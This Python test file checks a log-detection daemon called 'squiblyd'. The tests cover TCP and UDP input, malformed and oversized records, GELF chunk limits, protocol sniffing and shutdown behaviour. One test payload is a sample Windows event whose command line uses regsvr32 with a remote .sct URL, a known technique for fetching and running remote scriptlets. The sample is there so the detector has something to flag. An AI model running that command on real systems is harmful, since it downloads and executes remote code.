"""squiblyd as a whole: default start, TCP and UDP, bad input, counters, the ways to end."""
import json
import os
import re
import signal
import socket
import unittest
import zlib

from harness import (DEMO, SQUIBLYD, Case, acknowledged, attack, eventually, lines_of, main,
                     ordinary, squibly)

NXLOG = os.path.join(DEMO, "nxlog.ndjson")
WINLOGBEAT = os.path.join(DEMO, "winlogbeat.ndjson")
CLIENT_HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(range(190))


def port_is_free(port):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_INET, kind) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                s.bind(("127.0.0.1", port))
            except OSError:
                return False
    return True


def own_port_5170(case):
    """Of the tests that run at one time, one by one: this one runs with several loops, too. The name goes with the socket."""
    turn = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    case.addCleanup(turn.close)

    def mine():
        try:
            turn.bind("\0squiblyd-tests-port-5170")
        except OSError:
            return False
        return True
    eventually("the turn at port 5170", mine)


class Default(Case):
    def test_without_a_configuration_it_listens_and_writes_alerts_to_standard_output(self):
        own_port_5170(self)
        if not port_is_free(5170):
            raise unittest.SkipTest("port 5170 of 127.0.0.1 is taken on this machine")
        d = self.daemon(inputs=False)
        self.assertEqual(d.args, [SQUIBLYD])
        self.assertEqual((d.port("tcp"), d.port("udp")), (5170, 5170))
        squibly("send", "127.0.0.1:5170", NXLOG)
        squibly("send", "--udp", "--rate", "500", "127.0.0.1:5170", WINLOGBEAT)
        total = len(lines_of(NXLOG)) + len(lines_of(WINLOGBEAT))
        d.wait_received(total)
        with open(os.path.join(DEMO, "expected"), encoding="utf-8") as f:
            want = sorted(tuple(line.rstrip("\n").split("\t")) for line in f)
        eventually(lambda: f"alerts on standard output: {d.out}", lambda: len(d.out) >= len(want))
        c = self.assert_stops(d, total)
        alerts = [json.loads(line) for line in d.out]  # nothing but JSON stands there
        records = {a["event"]["original"] for a in alerts}
        self.assertEqual(sorted((a["rule"]["level"], a["rule"]["name"]) for a in alerts), want)
        self.assertEqual((c["alerted"], c["malformed"], c["dropped"]), (len(records), 0, 0))


class Input(Case):
    def test_bad_records_cost_one_count_each_and_the_next_is_intact(self):
        up = self.upstream()
        d = self.daemon("inputs:\n  - type: tcp\n    listen: 127.0.0.1:0\n    max_record: 4096\n",
                        inputs=False, upstream=up)
        d.send(attack(1) + b"not an event\n" + attack(2) + b'{"x":"' + b"y" * 100_000 + b'"}\n' + attack(3)
               + b'{"cut":"off\n' + attack(4) + ordinary(5))
        c = d.wait_received(8)
        self.assertEqual((c["alerted"], c["clean"], c["malformed"], c["oversized"]), (4, 1, 2, 1))
        eventually("four alerts", lambda: len(up.lines) == 4)
        self.assertEqual([a["host"]["name"] for a in up.alerts()],
                         [f"ws-{n}.corp.example" for n in (1, 2, 3, 4)])
        self.assert_stops(d, 8)

    def test_a_record_may_come_in_any_number_of_pieces(self):
        up = self.upstream()
        d = self.daemon(upstream=up)
        record = attack(1)
        with d.connect() as s:
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for i in range(len(record)):
                s.sendall(record[i:i + 1])
            s.sendall(attack(2).rstrip(b"\n"))  # and the last one without an end
        eventually("both alerts", lambda: len(up.lines) == 2)
        self.assert_stops(d, 2)

    def test_a_datagram_is_a_record_however_it_is_packed(self):
        up = self.upstream()
        d = self.daemon(upstream=up)
        gelf = json.dumps({"version": "1.1", "host": "ws-9.corp.example", "short_message": "x",
                           "_EventID": 4688, "_Channel": "Security",
                           "_NewProcessName": "C:\\Windows\\System32\\regsvr32.exe",
                           "_CommandLine": "regsvr32 /s /u /i:http://files.example.net/9.sct scrobj.dll"
                           }).encode()
        half = len(gelf) // 2
        chunk = lambda i, part: b"\x1e\x0f" + b"squiblyd" + bytes([i, 2]) + part
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            to = ("127.0.0.1", d.port("udp"))
            for datagram in (attack(1), zlib.compress(gelf), chunk(1, gelf[half:]), chunk(0, gelf[:half]),
                             b"junk", zlib.compress(b"x" * 40_000_000)[:60000]):
                s.sendto(datagram, to)
        c = d.wait_received(5)
        self.assertEqual((c["alerted"], c["malformed"], c["dropped"]), (3, 1, 1))
        eventually("three alerts", lambda: len(up.lines) == 3)
        self.assert_stops(d, 5)

    def test_chunked_messages_are_few_and_short_enough_or_the_oldest_is_given_up(self):
        limits = ("gelf_messages: 1", 100), ("gelf_memory: 64KiB", 40000)
        d = self.daemon("inputs:\n" + "".join(f"  - type: udp\n    listen: 127.0.0.1:0\n    {limit}\n" for limit, _ in limits),
                        inputs=False)
        ports = re.findall(r"udp [^\s,;]*:(\d+)", d.wait_said(r"listening on (.*)").group(1))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            for port, (_, size) in zip(ports, limits):
                parts = b" " * size, attack(1).strip()
                for of, i in ((b"one", 0), (b"two", 0), (b"two", 1), (b"one", 1)):  # "one" is given up for "two"
                    s.sendto(b"\x1e\x0f" + of + b"abcde" + bytes([i, 2]) + parts[i], ("127.0.0.1", int(port)))
        d.wait_received(4)
        self.assertEqual(self.assert_stops(d)["alerted"], 2)

    def test_other_protocols_are_named_and_the_listener_lives(self):
        up = self.upstream()
        d = self.daemon(upstream=up)
        for hello, word in ((CLIENT_HELLO, "TLS"), (b"2W\x00\x00\x00\x012J\x00\x00\x00\x01", "Lumberjack|Beats"),
                            (b"POST / HTTP/1.1\r\nHost: x\r\n\r\n", "HTTP")):
            with d.connect() as s:
                before = len(d.err)
                s.sendall(hello)
                d.wait_said(word, before)
                self.assertEqual(s.recv(1), b"", "the connection must be closed")
        d.send(attack(1))
        eventually("the alert after them", lambda: len(up.lines) == 1)
        self.assert_stops(d, 1)

    def test_many_senders_at_once_lose_nothing(self):
        up = self.upstream()
        d = self.daemon(upstream=up)
        senders = [d.connect() for _ in range(40)]
        for round_ in range(10):
            for n, s in enumerate(senders):
                s.sendall(ordinary(n) * 20 + (attack(n) if round_ == 5 else b""))
        for s in senders:
            s.close()
        total = 40 * 10 * 20 + 40
        c = d.wait_received(total)
        self.assertEqual((c["alerted"], c["clean"]), (40, total - 40))
        eventually("forty alerts", lambda: len(up.lines) == 40)
        self.assert_stops(d, total)


class Ends(Case):
    def test_sigterm_drains_what_was_sent_before(self):
        up = self.upstream()
        d = self.daemon(upstream=up)
        with d.connect() as s:
            s.sendall(b"".join(attack(n) for n in range(500)))
            d.wait_received(500)
            c = self.assert_stops(d, 500)
        self.assertEqual(c["alerted"], 500)
        eventually("every alert", lambda: len(up.lines) == 500)

    def test_what_the_kernel_took_for_us_is_read_before_the_end(self):
        """More than all batches hold: of a connection that is open, of some that nobody accepted yet, and of UDP."""
        up = self.upstream()
        d = self.daemon("batches: 4\nlimits:\n  batch_records: 16\n", upstream=up)
        d.port("udp")
        senders = [d.connect()]
        senders[0].sendall(attack(1))
        d.wait_received(1)
        d.process.send_signal(signal.SIGSTOP)
        senders += [d.connect() for _ in range(10)]
        for s in senders:
            # Its last record has no line end, and is there to its end all the same.
            s.sendall(b"".join(attack(n) for n in range(100))[:-1])
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
            for n in range(150):
                u.sendto(attack(n), ("127.0.0.1", d.port("udp")))
        eventually("all bytes acknowledged", lambda: all(acknowledged(s) for s in senders))
        d.process.send_signal(signal.SIGTERM)
        c = self.assert_stops(d, 1 + 11 * 100 + 150, signal.SIGCONT)
        self.assertEqual(c["alerted"], 1 + 11 * 100 + 150)
        for s in senders:
            with s:
                self.assertEqual(s.recv(1), b"", "it is told at once that nobody listens any more")

    def test_so_is_what_lies_behind_the_header_of_a_proxy(self):
        up = self.upstream()
        d = self.daemon("inputs:\n  - type: tcp\n    listen: 127.0.0.1:0\n    proxy_from: [127.0.0.0/8]\n",
                        inputs=False, upstream=up)
        d.port()
        d.process.send_signal(signal.SIGSTOP)
        with d.connect() as s:
            s.sendall(b"PROXY TCP4 192.0.2.1 192.0.2.2 1000 514\r\n" + b"".join(attack(n) for n in range(100)))
            eventually("all bytes acknowledged", lambda: acknowledged(s))
            d.process.send_signal(signal.SIGTERM)
            c = self.assert_stops(d, 100, signal.SIGCONT)
        self.assertEqual(c["alerted"], 100)

    def test_killed_and_started_again_it_works_at_once(self):
        up = self.upstream()
        d = self.daemon(upstream=up)
        d.send(attack(1))
        eventually("the first alert", lambda: len(up.lines) == 1)
        d.process.send_signal(signal.SIGKILL)
        self.assertEqual(d.wait(), -signal.SIGKILL)
        again = self.daemon(upstream=up, folder=d.folder)
        again.send(attack(2))
        eventually("the second alert", lambda: len(up.lines) == 2)
        self.assert_stops(again, 1)

    def test_a_damaged_cache_is_not_trusted(self):
        folder = self.scratch()
        own = {"XDG_CACHE_HOME": os.path.join(folder, "cache")}
        d = self.daemon(folder=folder, env=own)
        d.port()
        self.assert_stops(d, 0)
        cached = [os.path.join(at, name) for at, _, names in os.walk(own["XDG_CACHE_HOME"])
                  for name in names]
        self.assertTrue(cached, "a cache must have been written")
        for path in cached:
            with open(path, "r+b") as f:
                f.seek(os.path.getsize(path) // 2)
                f.write(b"\xff" * 64)
        again = self.daemon(folder=folder, env=own)
        again.send(attack(1))
        again.wait_received(1)
        self.assertFalse(again.said(r"\(cached\)"))
        c = self.assert_stops(again, 1)
        self.assertEqual(c["alerted"], 1)

    def test_a_wrong_configuration_is_refused_with_its_line(self):
        d = self.daemon("inputs:\n  - type: tcp\n    listne: 127.0.0.1:0\n", inputs=False)
        self.assertNotEqual(d.wait(), 0)
        self.assertIsNotNone(d.said(r"squiblyd\.yaml:3:\d+: .*listne.*listen"), "\n".join(d.err))

    def test_a_taken_port_is_said_plainly(self):
        with socket.create_server(("127.0.0.1", 0)) as s:
            port = s.getsockname()[1]
            d = self.daemon(f"inputs:\n  - type: tcp\n    listen: 127.0.0.1:{port}\n", inputs=False)
            self.assertNotEqual(d.wait(), 0)
            self.assertIsNotNone(d.said(rf"{port}.*(in use|taken)"), "\n".join(d.err))


if __name__ == "__main__":
    main()
